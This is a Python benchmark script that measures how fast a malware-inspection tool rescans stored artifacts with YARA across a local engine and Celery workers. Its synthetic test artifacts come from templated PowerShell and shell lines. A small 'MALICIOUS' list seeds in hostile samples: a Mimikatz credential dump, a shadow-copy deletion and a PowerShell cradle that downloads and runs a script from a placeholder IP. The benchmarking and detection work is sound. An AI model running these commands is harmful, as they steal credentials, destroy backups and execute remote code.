"""Rescan throughput: N stored artifacts (generated, realistic sizes) rescanned with the local engine
and with 1 and 2 Celery workers, next to raw yara-python over the same bytes in the same run.

    .venv/bin/python benchmarks/rescan.py                      # 100,000 artifacts, 2 processes
    .venv/bin/python benchmarks/rescan.py --artifacts 5000 --no-celery

Everything stays on this machine: SQLite (or --database-url) in a temporary folder, Redis at
127.0.0.1:6379 database 14 (flushed before and after, nothing else is touched).
Each engine run gets its own ruleset version (a rule file with a distinct comment), so no run
is served from the analysis cache of another.
"""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ProcessPoolExecutor
from datetime import UTC, datetime
from pathlib import Path

import sqlalchemy as sa

from inspector.config import Settings
from inspector.model import ArtifactType, SignatureInfo, Verdict, VerdictClass
from inspector.rescan.scanner import ArtifactScanner
from inspector.service.rescan_service import run_rescan, start_rescan
from inspector.store import RescanInfo, Store
from inspector.store.schema import inspection_artifacts, inspections, payloads, verdicts
from inspector.store.testing import subprocess_env
from inspector.tasks.batch_runner import LocalBatchRunner

REDIS_DB = 14
CLI = [sys.executable, "-c", "from inspector.cli.main import main; main()"]
PER_INSPECTION = 4

PS_LINES = [
    "$ErrorActionPreference = 'Stop'", "Write-Host \"Configuring {w}\"",
    "New-Item -ItemType Directory -Force -Path C:\\{w}\\logs | Out-Null",
    "Set-ItemProperty -Path HKLM:\\SOFTWARE\\{w} -Name Enabled -Value 1",
    "Install-WindowsFeature -Name Web-Server -IncludeManagementTools",
    "Invoke-WebRequest -Uri https://packages.{w}.example/agent.msi -OutFile $env:TEMP\\agent.msi",
    "Start-Process msiexec.exe -ArgumentList '/i', \"$env:TEMP\\agent.msi\", '/qn' -Wait",
    "foreach ($f in Get-ChildItem C:\\{w}) {{ Write-Output $f.FullName }}",
]
SH_LINES = [
    "set -euo pipefail", "apt-get update -y && apt-get install -y {w}", "echo \"configuring {w}\"",
    "mkdir -p /opt/{w}/bin && chmod 755 /opt/{w}/bin", "systemctl enable --now {w}.service",
    "curl -fsSL https://downloads.{w}.example/install.sh -o /tmp/install.sh",
    "for f in /etc/{w}/*.conf; do cp \"$f\" /backup/; done",
]
MALICIOUS = ["Invoke-Mimikatz -DumpCreds", "vssadmin delete shadows /all /quiet",
             "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"]


def _size(rng: random.Random) -> int:
    """Log-normal around 1.5 KB, as extension scripts are; a tail of large files up to 512 KB."""
    return int(min(512 * 1024, max(64, rng.lognormvariate(7.3, 1.3))))


def _artifact(rng: random.Random, n: int) -> tuple[bytes, ArtifactType]:
    size = _size(rng)
    roll = rng.random()
    if roll < 0.08:  # binaries: a PE-looking header and random bytes
        return b"MZ\x90\x00" + rng.randbytes(size), ArtifactType.PE
    lines, kind = (PS_LINES, ArtifactType.POWERSHELL) if roll < 0.55 else (SH_LINES, ArtifactType.SHELL)
    parts = [f"# artifact {n}"]
    total = 0
    while total < size:
        line = rng.choice(lines).format(w=f"svc{rng.randrange(10_000)}")
        if rng.random() < 0.002:
            line = rng.choice(MALICIOUS)
        parts.append(line)
        total += len(line) + 1
    return "\n".join(parts).encode(), kind


def generate(store: Store, count: int, seed: int) -> int:
    """Write `count` artifacts (blobs + rows) directly, in bulk; returns total bytes."""
    rng = random.Random(seed)
    now = datetime.now(UTC)
    total_bytes = 0
    blob_root = store.blobs.root
    insp_rows, art_rows, pay_rows, verdict_rows = [], [], [], []

    async def flush() -> None:
        async with store.database.engine.begin() as conn:
            if pay_rows:
                await conn.execute(payloads.insert(), pay_rows)
            await conn.execute(inspections.insert(), insp_rows)
            await conn.execute(verdicts.insert(), verdict_rows)
            ids = (await conn.execute(sa.select(verdicts.c.id, verdicts.c.inspection_id)
                                      .where(verdicts.c.inspection_id.in_([r["id"] for r in insp_rows])))).all()
            for verdict_id, inspection_id in ids:
                await conn.execute(inspections.update().where(inspections.c.id == inspection_id)
                                   .values(current_verdict_id=verdict_id))
            await conn.execute(inspection_artifacts.insert(), art_rows)
        for rows in (insp_rows, art_rows, pay_rows, verdict_rows):
            rows.clear()

    seen: set[str] = set()
    for i in range(0, count, PER_INSPECTION):
        inspection_id = f"bench-{i // PER_INSPECTION:07d}"
        artifacts = []
        for j in range(min(PER_INSPECTION, count - i)):
            data, kind = _artifact(rng, i + j)
            sha = hashlib.sha256(data).hexdigest()
            if sha in seen:
                continue
            seen.add(sha)
            path = blob_root / sha[:2] / sha[2:4] / sha
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)  # setup only: the store's own writer also fsyncs each blob
            total_bytes += len(data)
            pay_rows.append({"sha256": sha, "size": len(data), "type": kind.value, "first_seen": now,
                             "last_seen": now, "blob_state": "present"})
            art_rows.append({"inspection_id": inspection_id, "position": j, "sha256": sha,
                             "parent": None if j == 0 else artifacts[0]["sha256"], "origin": f"fileUris[{j}]",
                             "depth": 0 if j == 0 else 1, "role": "payload", "url": None})
            artifacts.append({"sha256": sha, "size": len(data), "type": kind.value, "origin": f"fileUris[{j}]",
                              "parent": None if j == 0 else artifacts[0]["sha256"], "depth": 0 if j == 0 else 1,
                              "role": "payload"})
        verdict = Verdict(id=inspection_id, verdict=VerdictClass.CLEAN, score=0, severity="None", complete=True,
                          request_kind="extension", artifacts=artifacts,  # type: ignore[arg-type]
                          signatures=SignatureInfo(version="generated", rule_count=0), engine="benchmark",
                          elapsed_ms=0.0, created_at=now.isoformat())
        insp_rows.append({"id": inspection_id, "kind": "extension", "status": "done", "request": {},
                          "created_at": now, "updated_at": now, "verdict": "clean", "score": 0,
                          "severity": "None", "ruleset_version": "generated"})
        verdict_rows.append({"inspection_id": inspection_id, "ruleset_version": "generated", "verdict": "clean",
                             "score": 0, "severity": "None", "cause": "inspection",
                             "body": verdict.model_dump_json(), "created_at": now})
        if len(insp_rows) >= 1000:
            asyncio.get_event_loop().run_until_complete(flush())
    if insp_rows:
        asyncio.get_event_loop().run_until_complete(flush())
    return total_bytes


# ---------------------------------------------------------------- raw yara-python baseline

_raw_rules = None


def _raw_init(rule_dirs: list[str]) -> None:
    global _raw_rules
    from inspector.rules.ruleset import compile_ruleset

    _raw_rules = compile_ruleset([Path(d) for d in rule_dirs]).rules


def _raw_scan(paths: list[str]) -> int:
    assert _raw_rules is not None
    for path in paths:
        _raw_rules.match(data=Path(path).read_bytes(), timeout=60)
    return len(paths)


def raw_yara(blob_paths: list[str], rule_dirs: list[str], processes: int) -> float:
    """Seconds for yara-python alone to read and match every blob, with the same process count."""
    chunks = [blob_paths[i:i + 256] for i in range(0, len(blob_paths), 256)]
    with ProcessPoolExecutor(processes, initializer=_raw_init, initargs=(rule_dirs,)) as pool:
        list(pool.map(_raw_scan, chunks[:1]))  # warm: rules compiled in every process before timing
        started = time.perf_counter()
        list(pool.map(_raw_scan, chunks))
        return time.perf_counter() - started


# ---------------------------------------------------------------- engine runs


def fresh_rules(base: Path, label: str) -> Path:
    """A rule folder whose ruleset version is new (a comment differs), so nothing comes from the cache."""
    folder = base / f"rules-{label}"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "bench.yar").write_text(f"// benchmark run {label}\nrule bench_marker_{label} "
                                      "{ strings: $a = \"bench-never-present-9f8e\" condition: $a }\n")
    return folder


async def engine_run(store: Store, settings: Settings, runner: object) -> tuple[RescanInfo, float, float]:
    if isinstance(runner, LocalBatchRunner):
        await runner.warm()  # like the raw baseline, whose processes compile their rules before timing
    scanner = await asyncio.to_thread(ArtifactScanner.from_settings, settings)
    info, _ = await start_rescan(store, ruleset_version=scanner.ruleset_version, rule_count=scanner.rule_count,
                                 analyzer_version=scanner.analyzer_version, requested_by="benchmark")
    started = time.perf_counter()
    await store.rescans.plan(info.id)  # timed apart: one transaction listing every artifact
    planned = time.perf_counter()
    print(f"planned {info.id} in {planned - started:.1f}s", file=sys.stderr)
    scan_done: list[float] = []

    def progress(p: RescanInfo) -> None:
        if not scan_done and p.progress.batches_total and p.progress.batches_done >= p.progress.batches_total:
            scan_done.append(time.perf_counter())

    final = await run_rescan(store, info.id, runner, settings=settings, on_progress=progress)  # type: ignore[arg-type]
    ended = time.perf_counter()
    return final, (scan_done[0] if scan_done else ended) - planned, ended - started


def start_workers(settings: Settings, count: int, log_dir: Path) -> list[subprocess.Popen[bytes]]:
    env = subprocess_env(settings, INSPECTOR_BROKER_URL=settings.broker_url,
                         INSPECTOR_CELERY_QUEUE=settings.celery_queue)
    procs = []
    for n in range(count):
        with open(log_dir / f"worker-{n}.log", "ab") as out:
            procs.append(subprocess.Popen([*CLI, "worker", "--concurrency", "1", "--loglevel", "WARNING"],
                                          env=env, stdout=out, stderr=subprocess.STDOUT, start_new_session=True))
    return procs


def stop_workers(procs: list[subprocess.Popen[bytes]]) -> None:
    for proc in procs:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGTERM)
    for proc in procs:
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)


def row(name: str, artifacts: int, nbytes: int, seconds: float) -> dict[str, object]:
    return {"run": name, "artifacts": artifacts, "seconds": round(seconds, 2),
            "artifacts_per_s": round(artifacts / seconds, 1), "mb_per_s": round(nbytes / seconds / 1e6, 2)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--artifacts", type=int, default=100_000)
    parser.add_argument("--processes", type=int, default=2, help="local engine and raw yara processes")
    parser.add_argument("--batch-size", type=int, default=2048)
    parser.add_argument("--no-celery", action="store_true")
    parser.add_argument("--database-url", default=None)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--keep", action="store_true", help="keep the temporary folder")
    args = parser.parse_args()

    work = Path(tempfile.mkdtemp(prefix="inspector-rescan-bench-"))
    base = Settings(data_dir=work / "data", database_url=args.database_url, rescan_batch_size=args.batch_size,
                    rescan_processes=args.processes, rescan_poll_s=0.2,
                    broker_url=f"redis://127.0.0.1:6379/{REDIS_DB}", celery_queue="bench")
    loop = asyncio.new_event_loop()
    asyncio.set_event_loop(loop)
    results: list[dict[str, object]] = []
    try:
        store = loop.run_until_complete(Store.open(base))
        t0 = time.perf_counter()
        nbytes = generate(store, args.artifacts, args.seed)
        print(f"generated {args.artifacts} artifacts, {nbytes / 1e6:.1f} MB in {time.perf_counter() - t0:.1f}s",
              file=sys.stderr)
        blob_paths = [str(p) for p in store.blobs.root.glob("??/??/*")]
        count = len(blob_paths)

        from inspector.rules.paths import signature_dirs

        local_settings = base.model_copy(update={"signature_dirs": [fresh_rules(work, "local")]})
        raw_s = raw_yara(blob_paths, [str(d) for d in signature_dirs(local_settings)], args.processes)
        results.append(row(f"raw yara-python ({args.processes} processes)", count, nbytes, raw_s))
        print(json.dumps(results[-1]), file=sys.stderr)

        runner = LocalBatchRunner(local_settings, args.processes)
        try:
            info, scan_s, total_s = loop.run_until_complete(engine_run(store, local_settings, runner))
        finally:
            runner.close()
        assert info.status == "done" and info.progress.artifacts_scanned == count, info
        results.append(row(f"local engine ({args.processes} processes), scan phase", count, nbytes, scan_s))
        results.append(row(f"local engine ({args.processes} processes), plan+scan+re-score", count, nbytes, total_s))
        print(json.dumps(results[-2:]), file=sys.stderr)

        if not args.no_celery:
            import redis

            client = redis.Redis(host="127.0.0.1", port=6379, db=REDIS_DB)
            from inspector.tasks.celery_app import CeleryBatchRunner

            for workers in (1, 2):
                client.flushdb()
                settings = base.model_copy(update={"signature_dirs": [fresh_rules(work, f"celery{workers}")],
                                                   "engine": "celery"})
                procs = start_workers(settings, workers, work)
                celery_runner = CeleryBatchRunner(settings)
                try:
                    info, scan_s, total_s = loop.run_until_complete(engine_run(store, settings, celery_runner))
                finally:
                    celery_runner.close()
                    stop_workers(procs)
                assert info.status == "done" and info.progress.artifacts_scanned == count, info
                results.append(row(f"celery ({workers} worker{'s' if workers > 1 else ''}), scan phase",
                                   count, nbytes, scan_s))
                print(json.dumps(results[-1]), file=sys.stderr)
            client.flushdb()
        loop.run_until_complete(store.close())
    finally:
        loop.close()
        if not args.keep:
            shutil.rmtree(work, ignore_errors=True)

    print(f"\n{count} artifacts, {nbytes / 1e6:.1f} MB, CPUs: {os.cpu_count()}")
    print(f"{'run':58} {'seconds':>8} {'artifacts/s':>12} {'MB/s':>8}")
    for r in results:
        print(f"{r['run']:58} {r['seconds']:>8} {r['artifacts_per_s']:>12} {r['mb_per_s']:>8}")
    raw = results[0]["artifacts_per_s"]
    local = results[1]["artifacts_per_s"]
    print(f"local engine scan phase / raw yara-python: {100 * local / raw:.0f}%")  # type: ignore[operator]


if __name__ == "__main__":
    main()
